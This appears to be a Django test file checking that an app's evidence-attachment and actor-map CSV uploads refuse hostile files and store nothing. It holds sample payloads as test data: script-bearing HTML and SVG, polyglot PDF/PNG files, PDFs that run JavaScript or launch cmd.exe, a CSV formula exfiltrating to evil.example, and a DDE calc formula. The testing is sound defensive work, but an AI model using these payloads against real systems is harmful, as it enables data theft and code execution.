"""Uploads: evidence attachments and the actor map's CSV import, through the real views as a
facilitator (who may change both).

Every hostile or malformed upload must be refused with a message saying why (naming the line
of a CSV file), the form must come back rather than a 500, and nothing may be stored: the
row count of every table and the files in private storage are compared before and after. A
request body past settings.REQUEST_MAX_BYTES gets a 413 page before any of it is read. A few
good files go through the same views, so the checks are seen to refuse only what they
should. The figure: upload cases tried, accepted wrongly, and refusals that still wrote."""

import io
import zipfile
import zlib
from datetime import date

import pypdf
import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from dialogues.models import Actor, ActorRelation, EvidenceItem
from dialogues.services import actor_map as actor_map_services
from tests.assurance import figures

TALLY = {"evidence": 0, "csv": 0, "accepted_wrongly": [], "partial_writes": []}


def _record():
    wrong, partial = TALLY["accepted_wrongly"], TALLY["partial_writes"]
    figures.record(
        "Uploads and CSV imports",
        f"{TALLY['evidence'] + TALLY['csv']} upload cases tried ({TALLY['evidence']} evidence "
        f"attachments, {TALLY['csv']} CSV imports): {len(wrong)} accepted wrongly"
        f"{' ' + str(wrong) if wrong else ''}, {len(partial)} partial writes"
        f"{' ' + str(partial) if partial else ''}",
    )


@pytest.fixture(autouse=True)
def private_media(settings, tmp_path):
    settings.PRIVATE_MEDIA_ROOT = tmp_path
    return tmp_path


def _snapshot(media_root):
    """The row count of every table, and the files in private storage."""
    counts = {
        model._meta.label: model._base_manager.count()
        for model in apps.get_models()
        # A request's session row holds its messages and clocks: not the upload's doing.
        if model._meta.label != "sessions.Session"
    }
    files = sorted(str(path) for path in media_root.rglob("*") if path.is_file())
    return counts, files


# --- Files to attach ----------------------------------------------------------------------


def _pdf(extra_catalog=b"", tail=b""):
    """A small PDF; `extra_catalog` is added to its catalogue dictionary, `tail` after it."""
    writer = pypdf.PdfWriter()
    writer.add_blank_page(width=200, height=200)
    buffer = io.BytesIO()
    writer.write(buffer)
    data = buffer.getvalue()
    if extra_catalog:
        data = data.replace(b"/Type /Catalog", b"/Type /Catalog " + extra_catalog, 1)
    return data + tail


def _image(kind):
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "teal").save(buffer, format=kind)
    return buffer.getvalue()


def _zip():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Main-Class: Exploit\n")
        archive.writestr("Exploit.class", b"\xca\xfe\xba\xbe")
    return buffer.getvalue()


def _jpeg_with_comment(comment):
    data = _image("JPEG")
    segment = b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment
    return data[:2] + segment + data[2:]


def _compressed_javascript_stream():
    """A PDF whose script action sits only inside a compressed object stream."""
    hidden = zlib.compress(b"1 0 << /Type /Action /S /JavaScript /JS (app.alert(1)) >>")
    return _pdf(
        tail=b"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(hidden)).encode()
        + b" >>\nstream\n"
        + hidden
        + b"\nendstream\nendobj\n"
    )


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"

REFUSED_ATTACHMENTS = {
    # name: (file name, bytes, type the browser claims, what the message says)
    "an exe named .pdf": (
        "report.pdf",
        b"MZ\x90\x00\x03" + b"\x00" * 59 + b"PE\x00\x00" + b"\x00" * 200,
        "application/pdf",
        "not an allowed type",
    ),
    "HTML named .pdf": ("report.pdf", HTML, "application/pdf", "not an allowed type"),
    "HTML claiming to be a PNG": ("map.png", HTML, "image/png", "not an allowed type"),
    "an SVG with a script": (
        "map.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "image/svg+xml",
        "not an allowed type",
    ),
    "an XML file with a stylesheet": (
        "data.txt",
        b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>',
        "text/plain",
        "not an allowed type",
    ),
    "text with markup after the first 64 KB": (
        "notes.txt",
        b"plain words " * 8000 + b"<script>alert(1)</script>",
        "text/plain",
        "not an allowed type",
    ),
    "UTF-16 text": ("notes.txt", "Ceasefire notes".encode("utf-16"), "text/plain", "allowed"),
    "Latin-1 text": ("notes.csv", "Café, Sarn\n".encode("latin-1"), "text/csv", "allowed"),
    "text with NUL bytes": ("notes.txt", b"one\x00two", "text/plain", "not an allowed type"),
    "a PDF that is also an HTML page": (
        "brief.pdf",
        _pdf(tail=b"\n" + HTML + b"\n"),
        "application/pdf",
        "more than a plain PDF or image",
    ),
    "a PDF with a ZIP appended (GIFAR-style)": (
        "brief.pdf",
        _pdf(tail=_zip()),
        "application/pdf",
        "more than a plain PDF or image",
    ),
    "a PNG with a JAR appended (GIFAR)": (
        "map.png",
        _image("PNG") + _zip(),
        "image/png",
        "more than a plain PDF or image",
    ),
    "a JPEG whose comment is a script": (
        "photo.jpg",
        _jpeg_with_comment(b"<script>alert(1)</script>"),
        "image/jpeg",
        "more than a plain PDF or image",
    ),
    "a PDF that runs JavaScript on opening": (
        "brief.pdf",
        _pdf(extra_catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "application/pdf",
        "more than a plain PDF or image",
    ),
    "a PDF with JavaScript spelt in #-escapes": (
        "brief.pdf",
        _pdf(extra_catalog=b"/OpenAction << /S /J#61vaScript /#4AS (app.alert(1)) >>"),
        "application/pdf",
        "more than a plain PDF or image",
    ),
    "a PDF with JavaScript inside a compressed object stream": (
        "brief.pdf",
        _compressed_javascript_stream(),
        "application/pdf",
        "more than a plain PDF or image",
    ),
    "a PDF that launches a program": (
        "brief.pdf",
        _pdf(extra_catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "application/pdf",
        "more than a plain PDF or image",
    ),
    "a PDF carrying an embedded file": (
        "brief.pdf",
        _pdf(extra_catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>"),
        "application/pdf",
        "more than a plain PDF or image",
    ),
    "an empty file": ("empty.pdf", b"", "application/pdf", "The submitted file is empty."),
}

ACCEPTED_ATTACHMENTS = {
    "a plain PDF": ("brief.pdf", _pdf(), "application/pdf"),
    "a PNG": ("map.png", _image("PNG"), "image/png"),
    "a JPEG": ("photo.jpg", _image("JPEG"), "image/jpeg"),
    "UTF-8 CSV": ("figures.csv", "Region,Incidents\nSarn,4\nCafé,2\n".encode(), "text/csv"),
}


def _evidence_post(client, dialogue, name, content, content_type):
    return client.post(
        reverse("dialogues:evidence_create", args=[dialogue.public_id]),
        {
            "kind": EvidenceItem.Kind.OTHER,
            "title": "Crossing incidents",
            "source": "Monitoring mission",
            "summary": "Weekly counts.",
            "attachment": SimpleUploadedFile(name, content, content_type=content_type),
        },
    )


@pytest.mark.django_db
@pytest.mark.parametrize("case", REFUSED_ATTACHMENTS)
def test_a_hostile_or_malformed_attachment_is_refused_and_nothing_is_stored(
    case, client, dialogue, facilitator, private_media
):
    name, content, content_type, message = REFUSED_ATTACHMENTS[case]
    client.force_login(facilitator)
    before = _snapshot(private_media)

    response = _evidence_post(client, dialogue, name, content, content_type)

    TALLY["evidence"] += 1
    if response.status_code != 200:
        TALLY["accepted_wrongly"].append(case)
    if _snapshot(private_media) != before:
        TALLY["partial_writes"].append(case)
    _record()
    assert response.status_code == 200
    page = response.content.decode()
    assert message in page
    assert "Crossing incidents" in page  # what was typed comes back
    assert _snapshot(private_media) == before


@pytest.mark.django_db
@pytest.mark.parametrize("case", ACCEPTED_ATTACHMENTS)
def test_a_plain_file_of_an_allowed_type_is_attached(case, client, dialogue, facilitator):
    name, content, content_type = ACCEPTED_ATTACHMENTS[case]
    client.force_login(facilitator)

    response = _evidence_post(client, dialogue, name, content, content_type)

    TALLY["evidence"] += 1
    _record()
    assert response.status_code == 302
    item = EvidenceItem.objects.get(dialogue=dialogue)
    assert item.attachment.read() == content
    assert item.attachment_type.split(";")[0] == content_type


@pytest.mark.django_db
def test_an_attachment_over_the_limit_is_refused_by_size(
    client, dialogue, facilitator, private_media, settings
):
    settings.EVIDENCE_MAX_BYTES = 4096
    client.force_login(facilitator)
    before = _snapshot(private_media)

    response = _evidence_post(client, dialogue, "big.txt", b"a" * 5000, "text/plain")

    TALLY["evidence"] += 1
    _record()
    assert response.status_code == 200
    assert "The file is 4.9\xa0KB; attachments may be at most 4.0\xa0KB." in (
        response.content.decode()
    )
    assert _snapshot(private_media) == before


@pytest.mark.django_db
@pytest.mark.parametrize("view", ["evidence", "csv"])
def test_a_request_body_over_the_cap_gets_a_413_page_before_it_is_read(
    view, client, dialogue, programme, facilitator, private_media, settings
):
    settings.REQUEST_MAX_BYTES = 64 * 1024
    client.force_login(facilitator)
    before = _snapshot(private_media)
    big = b"x" * (100 * 1024)

    if view == "evidence":
        response = _evidence_post(client, dialogue, "big.txt", big, "text/plain")
    else:
        response = client.post(
            reverse("dialogues:actor_map_import", args=[programme.public_id]),
            {"csv_file": SimpleUploadedFile("map.csv", big, content_type="text/csv")},
        )

    TALLY["evidence" if view == "evidence" else "csv"] += 1
    if response.status_code != 413:
        TALLY["accepted_wrongly"].append(f"{view} body over the cap")
    _record()
    assert response.status_code == 413
    page = response.content.decode()
    assert "What you sent is too large" in page
    assert "at most 64.0\xa0KB in one go" in page
    assert "Nothing was saved." in page
    # Nothing of the body was read: not even the CSRF check, which reads the form, ran.
    assert not hasattr(response.wsgi_request, "_post")
    assert _snapshot(private_media) == before


@pytest.mark.django_db
def test_a_body_within_the_cap_is_read(client, dialogue, facilitator, settings):
    settings.REQUEST_MAX_BYTES = 64 * 1024
    client.force_login(facilitator)

    response = _evidence_post(client, dialogue, "notes.txt", b"x" * (40 * 1024), "text/plain")

    assert response.status_code == 302
    assert EvidenceItem.objects.get(dialogue=dialogue).attachment_size == 40 * 1024


# --- The actor map's CSV import -----------------------------------------------------------

HEADER = "Actor,Actor,Conflict status,Dialogue status,As of,Notes"


@pytest.fixture
def actors(programme):
    return [
        Actor.objects.create(programme=programme, name=name, kind=Actor.Kind.ARMED_GROUP)
        for name in ("Sarn Liberation Front", "State Army", "Coastal Militia")
    ]


def _csv(*rows):
    return "\n".join([HEADER, *rows]) + "\n"


GOOD_ROW = "Sarn Liberation Front,State Army,frequent,active,2026-01-10,Talks resumed"
GOOD_ROW_2 = "State Army,Coastal Militia,frequent,active,2026-01-11,"

REFUSED_CSV = {
    # name: (file bytes, what the message says)
    "a row with too few columns": (
        _csv(GOOD_ROW, "Sarn Liberation Front,State Army,frequent,active").encode(),
        "Line 3: it has 4 columns where the header has 6.",
    ),
    "a row with too many columns": (
        _csv(GOOD_ROW + ",extra,cells").encode(),
        "Line 2: it has 8 columns where the header has 6.",
    ),
    "UTF-16 with a byte order mark": (_csv(GOOD_ROW).encode("utf-16"), "is not UTF-8 text"),
    "UTF-16 without a byte order mark": (
        _csv(GOOD_ROW).encode("utf-16-le"),
        "This is not a CSV text file. Line 1 holds a NUL character;",
    ),
    "Latin-1 bytes": (
        _csv(GOOD_ROW.replace("Talks", "Café talks")).encode("latin-1"),
        "is not UTF-8 text",
    ),
    "NUL bytes in a row": (
        _csv(GOOD_ROW, GOOD_ROW_2 + "\x00").encode(),
        "This is not a CSV text file. Line 3 holds a NUL character;",
    ),
    "a cell past the csv module's limit": (
        _csv(GOOD_ROW, GOOD_ROW_2 + "x" * 200_000).encode(),
        "Line 3 cannot be read as CSV",
    ),
    "the same row twice": (
        _csv(GOOD_ROW, GOOD_ROW).encode(),
        "Line 3: the same pair and date are already on line 2.",
    ),
    "a row naming an unknown actor": (
        _csv(GOOD_ROW, "Ghost Brigade,State Army,frequent,active,2026-01-10,").encode(),
        "Line 3: Actor “Ghost Brigade” is not on the map: add it first.",
    ),
    "a formula where an actor's name belongs": (
        _csv(
            '"=HYPERLINK(""http://evil.example/?""&A1)",State Army,frequent,active,2026-01-10,'
        ).encode(),
        "Line 2: Actor “=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1)” is not on the map",
    ),
    "an unknown status and a bad date": (
        _csv("Sarn Liberation Front,State Army,at peace,active,10/01/2026,").encode(),
        "Line 2: “at peace” is not a conflict status; “10/01/2026” is not a date",
    ),
    "good rows then one bad row": (
        _csv(GOOD_ROW, GOOD_ROW_2, "State Army,State Army,frequent,active,2026-01-12,").encode(),
        "Line 4: The same actor is named twice",
    ),
    "no header": (GOOD_ROW.encode(), "The first line must be the header"),
    "a header and no rows": ((HEADER + "\n").encode(), "The file has a header but no rows"),
    "an empty file": (b"", "The submitted file is empty."),
    "a PDF named .csv": (_pdf(), "is not UTF-8 text"),
}


def _import(client, programme, content, name="map.csv"):
    return client.post(
        reverse("dialogues:actor_map_import", args=[programme.public_id]),
        {"csv_file": SimpleUploadedFile(name, content, content_type="text/csv")},
    )


@pytest.mark.django_db
@pytest.mark.parametrize("case", REFUSED_CSV)
def test_a_malformed_csv_file_is_refused_whole_with_the_line_named(
    case, client, programme, facilitator, actors, private_media
):
    content, message = REFUSED_CSV[case]
    client.force_login(facilitator)
    before = _snapshot(private_media)

    response = _import(client, programme, content)

    TALLY["csv"] += 1
    if response.status_code != 200:
        TALLY["accepted_wrongly"].append(case)
    if _snapshot(private_media) != before:
        TALLY["partial_writes"].append(case)
    _record()
    assert response.status_code == 200
    assert message in response.content.decode()
    assert _snapshot(private_media) == before


@pytest.mark.django_db
def test_a_csv_file_over_its_size_limit_is_refused(client, programme, facilitator, actors):
    client.force_login(facilitator)
    content = _csv(*[GOOD_ROW] * (actor_map_services.CSV_MAX_BYTES // len(GOOD_ROW) + 1))
    before = ActorRelation.objects.count()

    response = _import(client, programme, content.encode())

    TALLY["csv"] += 1
    _record()
    assert response.status_code == 200
    assert "the limit is 2.0\xa0MB. Split it and import the parts." in response.content.decode()
    assert ActorRelation.objects.count() == before


@pytest.mark.django_db
def test_a_row_refused_while_recording_leaves_nothing_recorded(
    client, programme, facilitator, actors, private_media, monkeypatch
):
    """A row that passed the file's checks but is refused when recorded (as when the map
    changes between reading and writing): the rows recorded before it are rolled back."""
    recorded = []
    record = actor_map_services.actor_relation_record

    def refuse_the_third(**kwargs):
        if len(recorded) == 2:
            raise actor_map_services.ValidationError("The map changed meanwhile.")
        recorded.append(kwargs)
        return record(**kwargs)

    monkeypatch.setattr(actor_map_services, "actor_relation_record", refuse_the_third)
    client.force_login(facilitator)
    before = _snapshot(private_media)
    third = "Sarn Liberation Front,Coastal Militia,frequent,active,2026-01-12,"

    response = _import(client, programme, _csv(GOOD_ROW, GOOD_ROW_2, third).encode())

    TALLY["csv"] += 1
    if _snapshot(private_media) != before:
        TALLY["partial_writes"].append("a row refused while recording")
    _record()
    assert len(recorded) == 2
    assert response.status_code == 200
    assert "Line 4: The map changed meanwhile." in response.content.decode()
    assert _snapshot(private_media) == before


@pytest.mark.django_db
def test_a_good_file_is_recorded_and_formulas_in_it_stay_text(
    client, programme, facilitator, actors, private_media
):
    """Notes may start with "=", "+", "-" or "@" (a spreadsheet would run them): they are
    stored as typed, and every CSV export writes them behind a quote, so they never run."""
    client.force_login(facilitator)
    formula = "=cmd|' /C calc'!A0"
    before = _snapshot(private_media)

    response = _import(client, programme, _csv(GOOD_ROW, GOOD_ROW_2 + formula).encode())

    TALLY["csv"] += 1
    _record()
    assert response.status_code == 302
    counts, _files = _snapshot(private_media)
    assert counts["dialogues.ActorRelation"] == before[0]["dialogues.ActorRelation"] + 2
    stored = ActorRelation.objects.get(as_of=date(2026, 1, 11))
    assert stored.notes == formula
    export = client.get(reverse("dialogues:actor_map_export", args=[programme.public_id]))
    assert f"'{formula}" in export.content.decode("utf-8-sig")
    assert f",{formula}" not in export.content.decode("utf-8-sig")
